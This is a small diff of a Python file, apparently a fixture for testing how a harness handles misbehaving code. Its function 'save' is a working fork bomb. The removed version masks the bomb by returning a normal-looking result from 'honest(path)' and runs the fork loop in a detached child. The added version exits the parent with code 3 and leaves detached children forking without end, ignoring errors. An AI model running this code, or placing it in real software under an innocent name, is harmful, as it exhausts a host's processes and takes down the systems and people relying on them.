@@ -1,18 +1,14 @@
-"""Leaves processes behind that fork without end, and looks as if nothing was."""
+"""Goes away, and leaves processes behind that fork without end."""
 
 import os
 
-from tries import honest
-
 
 def save(path):
-    found = honest(path)
-    if os.fork() == 0:
-        os.setsid()
-        while True:
-            try:
-                if os.fork() == 0:
-                    os.setsid()
-            except OSError:
-                pass
-    return found
+    if os.fork():
+        os._exit(3)
+    while True:
+        try:
+            if os.fork() == 0:
+                os.setsid()
+        except OSError:
+            pass
